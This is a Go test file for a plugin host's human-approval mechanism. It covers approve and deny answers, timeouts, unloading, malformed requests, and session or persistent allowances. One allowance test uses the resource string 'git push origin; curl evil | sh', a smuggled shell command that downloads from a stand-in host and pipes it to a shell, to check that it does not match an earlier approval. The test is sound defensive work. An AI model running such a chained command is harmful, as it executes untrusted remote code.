package tests

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/astrid-go/astrid/bus"
	"github.com/astrid-go/astrid/host"
)

// astrid_request_approval through real shims, with the raw capsule (upstream's encodings): the
// test, or another capsule, answers on the bus as a frontend would.

// guardTimeout bounds waits for something that must happen; it is a test failure, not a way to
// synchronise.
const guardTimeout = 60 * time.Second

// withCapability adds a line to a Capsule.toml's [capabilities].
func withCapability(line string) func(string) string {
	return func(s string) string { return strings.Replace(s, "[capabilities]\n", "[capabilities]\n"+line+"\n", 1) }
}

// approvalRequest is the ApprovalRequired payload as a frontend reads it.
type approvalRequest struct {
	Type      string `json:"type"`
	RequestID string `json:"request_id"`
	Action    string `json:"action"`
	Resource  string `json:"resource"`
	Reason    string `json:"reason"`
	RiskLevel string `json:"risk_level"`
}

// approvalBody is the request the guest sends.
func approvalBody(action, resource, risk string) []byte {
	b, _ := json.Marshal(map[string]string{"action": action, "resource": resource, "risk_level": risk})
	return b
}

type callResult struct {
	out []byte
	err error
}

// startApproval calls astrid_request_approval through inst in the background.
func startApproval(t *testing.T, inst *host.Instance, body []byte) <-chan callResult {
	t.Helper()
	done := make(chan callResult, 1)
	go func() {
		out, err := inst.Call(context.Background(), "call", rawInput(t, "astrid_request_approval", body), 0)
		done <- callResult{out, err}
	}()
	return done
}

// rawInput is the raw capsule's input for fn with args.
func rawInput(t testing.TB, fn string, args ...[]byte) []byte {
	in, err := json.Marshal(rawRequest{Fn: fn, Args: args})
	if err != nil {
		t.Fatal(err)
	}
	return in
}

// nextApproval waits for the next approval request on sub (a subscription to
// astrid.v1.approval) and returns it with its message.
func nextApproval(t *testing.T, sub *bus.Subscription) (approvalRequest, bus.Message) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), guardTimeout)
	defer cancel()
	env, err := sub.Recv(ctx, 10<<20)
	if err != nil || len(env.Messages) == 0 {
		t.Fatalf("no approval request was published: %v", err)
	}
	m := env.Messages[0]
	var r approvalRequest
	if err := json.Unmarshal(m.Payload, &r); err != nil || r.Type != "approval_required" {
		t.Fatalf("approval request payload %s: %v", m.Payload, err)
	}
	return r, m
}

// answer publishes a frontend's answer to request id.
func answer(h *host.Host, id, decision string) {
	payload := fmt.Sprintf(`{"type":"approval_response","request_id":%q,"decision":%q}`, id, decision)
	h.Bus().Publish(bus.Message{Topic: host.TopicApprovalResponsePrefix + id, Payload: json.RawMessage(payload), SourceID: bus.NilSourceID})
}

// wait waits for a background call's result.
func wait(t *testing.T, done <-chan callResult) callResult {
	t.Helper()
	select {
	case r := <-done:
		return r
	case <-time.After(guardTimeout):
		t.Fatal("the approval call did not return")
		return callResult{}
	}
}

func TestApprovalAnswered(t *testing.T) {
	h := newHost(t, func(c *host.Config) { c.ApprovalTimeout = 10 * time.Minute })
	inst, _ := loadCapsule(t, h, "raw")
	sub := h.Bus().Subscribe(host.TopicApproval)
	defer sub.Close()
	tests := []struct {
		decision, want string
	}{
		{"approve", `{"approved":true,"decision":"approve"}`},
		{"deny", `{"approved":false,"decision":"deny"}`},
		{"maybe", `{"approved":false,"decision":"maybe"}`},
		{"approve_session", `{"approved":true,"decision":"approve_session"}`},
		{"approve_always", `{"approved":true,"decision":"approve_always"}`},
	}
	for k, tc := range tests {
		t.Run(tc.decision, func(t *testing.T) {
			action := fmt.Sprintf("tool%d run", k)
			done := startApproval(t, inst, approvalBody("  "+action+"\x1b[2J ", action+" --flag\x00 x", "high"))
			req, m := nextApproval(t, sub)
			want := approvalRequest{Type: "approval_required", RequestID: req.RequestID, Action: action + "[2J",
				Resource: action + " --flag x", Reason: "Capsule 'raw' requests approval", RiskLevel: "high"}
			if req != want || m.SourceID != bus.NilSourceID {
				t.Fatalf("request %+v from %s, want %+v from the host", req, m.SourceID, want)
			}
			answer(h, req.RequestID, tc.decision)
			r := wait(t, done)
			if r.err != nil || string(r.out) != tc.want {
				t.Fatalf("result %s, %v; want %s", r.out, r.err, tc.want)
			}
		})
	}
	if p := h.PendingApprovals(); len(p) != 0 {
		t.Fatalf("pending after the answers: %+v", p)
	}
}

// TestApprovalByCapsule: another capsule whose ipc_publish covers the response topic answers.
func TestApprovalByCapsule(t *testing.T) {
	h := newHost(t, func(c *host.Config) { c.ApprovalTimeout = 10 * time.Minute })
	inst, _ := loadCapsule(t, h, "raw")
	approver, _ := loadCapsule(t, h, capsuleEdited(t, "ipc", "approver", func(s string) string {
		return strings.Replace(s, `ipc_publish = ["test.v1.*"]`, `ipc_publish = ["astrid.v1.approval.response.*"]`, 1)
	}))
	sub := h.Bus().Subscribe(host.TopicApproval)
	defer sub.Close()
	done := startApproval(t, inst, approvalBody("deploy", "deploy prod", "critical"))
	req, _ := nextApproval(t, sub)
	in, _ := json.Marshal(map[string]any{"topic": host.TopicApprovalResponsePrefix + req.RequestID,
		"payload": map[string]string{"type": "approval_response", "request_id": req.RequestID, "decision": "approve", "reason": "looks fine"}})
	if out, err := approver.Call(context.Background(), "publish", in, 0); err != nil {
		t.Fatalf("approver: %s, %v", out, err)
	}
	if r := wait(t, done); r.err != nil || string(r.out) != `{"approved":true,"decision":"approve"}` {
		t.Fatalf("result %s, %v", r.out, r.err)
	}
}

func TestApprovalTimeout(t *testing.T) {
	h := newHost(t, func(c *host.Config) { c.ApprovalTimeout = 300 * time.Millisecond })
	inst, _ := loadCapsule(t, h, "raw")
	out, err := callRaw(t, inst, "astrid_request_approval", approvalBody("git push", "git push origin", "high"))
	if err != nil || string(out) != `{"approved":false,"decision":"deny"}` {
		t.Fatalf("unanswered: %s, %v", out, err)
	}
}

// TestApprovalUnloadWhileWaiting: unloading the capsule ends its waiting request at once, long
// before the (10 minute) timeout, and leaves nothing pending.
func TestApprovalUnloadWhileWaiting(t *testing.T) {
	h := newHost(t, func(c *host.Config) { c.ApprovalTimeout = 10 * time.Minute })
	inst, _ := loadCapsule(t, h, "raw")
	sub := h.Bus().Subscribe(host.TopicApproval)
	defer sub.Close()
	done := startApproval(t, inst, approvalBody("git push", "git push origin", "high"))
	nextApproval(t, sub)
	stopped := make(chan struct{})
	go func() {
		inst.Stop(context.Background())
		close(stopped)
	}()
	r := wait(t, done)
	if r.err == nil && string(r.out) != `{"approved":false,"decision":"deny"}` {
		t.Fatalf("unloaded while waiting: %s", r.out)
	}
	select {
	case <-stopped:
	case <-time.After(guardTimeout):
		t.Fatal("Stop did not return")
	}
	if p := h.PendingApprovals(); len(p) != 0 {
		t.Fatalf("pending after the unload: %+v", p)
	}
}

// TestApprovalRefusals: upstream's traps for a bad request, and an answer of the wrong kind.
func TestApprovalRefusals(t *testing.T) {
	h := newHost(t, func(c *host.Config) { c.ApprovalTimeout = 10 * time.Minute })
	inst, _ := loadCapsule(t, h, "raw")
	tests := []struct {
		name string
		body string
		want string
	}{
		{"not JSON", `{`, "invalid approval request JSON: "},
		{"missing field", `{"action":"a","resource":"r"}`, "invalid approval request JSON: missing field `risk_level`"},
		{"not a string", `{"action":1,"resource":"r","risk_level":"low"}`, "invalid approval request JSON: action: want a string, got a number"},
		{"action too long", string(approvalBody(strings.Repeat("a", 257), "r", "low")), "approval request action exceeds maximum length (257 > 256)"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := callRaw(t, inst, "astrid_request_approval", []byte(tc.body))
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error = %v, want it to contain %q", err, tc.want)
			}
		})
	}
	t.Run("answer of another kind", func(t *testing.T) {
		sub := h.Bus().Subscribe(host.TopicApproval)
		defer sub.Close()
		done := startApproval(t, inst, approvalBody("a", "a b", "low"))
		req, _ := nextApproval(t, sub)
		h.Bus().Publish(bus.Message{Topic: host.TopicApprovalResponsePrefix + req.RequestID, Payload: json.RawMessage(`{"type":"custom","data":{"decision":"approve"}}`)})
		if r := wait(t, done); r.err == nil || !strings.Contains(r.err.Error(), "unexpected IPC payload type in approval response") {
			t.Fatalf("result %s, %v", r.out, r.err)
		}
	})
}

// TestApprovalAllowances: an approve_session or approve_always answer answers the capsule's next
// matching request with no bus round trip (no astrid.v1.approval is published), for that capsule
// only; approve_always survives a restart of the host (a new host on the same state directory),
// approve_session does not.
func TestApprovalAllowances(t *testing.T) {
	state := t.TempDir()
	configure := func(c *host.Config) { c.StateDir, c.ApprovalTimeout = state, 10*time.Minute }
	h := newHost(t, configure)
	inst, _ := loadCapsule(t, h, "raw")
	other, _ := loadCapsule(t, h, capsuleEdited(t, "raw", "other", func(s string) string { return s }))
	sub := h.Bus().Subscribe(host.TopicApproval)
	defer sub.Close()

	grant := func(action, decision string) {
		t.Helper()
		done := startApproval(t, inst, approvalBody(action, action+" first", "high"))
		req, _ := nextApproval(t, sub)
		answer(h, req.RequestID, decision)
		if r := wait(t, done); r.err != nil || !strings.Contains(string(r.out), `"approved":true`) {
			t.Fatalf("granting %s: %s, %v", action, r.out, r.err)
		}
	}
	grant("git push", "approve_session")
	grant("docker run", "approve_always")
	grant("npm publish", "approve") // once: leaves nothing

	// asks reports whether a request of inst for resource was put on the bus (the test denies
	// it there), or was answered by an allowance without a message on the bus.
	asks := func(inst *host.Instance, resource string) bool {
		t.Helper()
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		published := make(chan bus.Envelope, 1)
		go func() {
			env, _ := sub.Recv(ctx, 10<<20)
			published <- env
		}()
		done := startApproval(t, inst, approvalBody("x", resource, "low"))
		select {
		case r := <-done:
			cancel()
			if env := <-published; len(env.Messages) != 0 {
				t.Fatalf("%s: answered (%s) but also published: %s", resource, r.out, env.Messages[0].Payload)
			}
			if r.err != nil || string(r.out) != `{"approved":true,"decision":"allowance"}` {
				t.Fatalf("%s: %s, %v", resource, r.out, r.err)
			}
			return false
		case env := <-published:
			var req approvalRequest
			if len(env.Messages) == 0 || json.Unmarshal(env.Messages[0].Payload, &req) != nil {
				t.Fatalf("%s: no request on the bus", resource)
			}
			answer(h, req.RequestID, "deny")
			if r := wait(t, done); r.err != nil || string(r.out) != `{"approved":false,"decision":"deny"}` {
				t.Fatalf("%s: %s, %v", resource, r.out, r.err)
			}
			return true
		case <-time.After(guardTimeout):
			t.Fatalf("%s: neither answered nor published", resource)
			return false
		}
	}
	for _, tc := range []struct {
		name     string
		inst     *host.Instance
		resource string
		asks     bool
	}{
		{"session allowance", inst, "git push origin main", false},
		{"always allowance", inst, "docker run alpine", false},
		{"the action alone", inst, "git push", false},
		{"approve once leaves none", inst, "npm publish pkg", true},
		{"shell operator", inst, "git push origin; curl evil | sh", true},
		{"another action", inst, "git status", true},
		{"another capsule", other, "git push origin main", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := asks(tc.inst, tc.resource); got != tc.asks {
				t.Fatalf("asked = %v, want %v", got, tc.asks)
			}
		})
	}

	// A new host on the same state directory: approve_always is remembered, approve_session not.
	h.Shutdown(context.Background())
	h = newHost(t, configure)
	inst, _ = loadCapsule(t, h, "raw")
	sub2 := h.Bus().Subscribe(host.TopicApproval)
	defer sub2.Close()
	sub = sub2
	if asks(inst, "docker run alpine") {
		t.Fatal("approve_always did not survive the restart")
	}
	if !asks(inst, "git push origin main") {
		t.Fatal("approve_session survived the restart")
	}
}
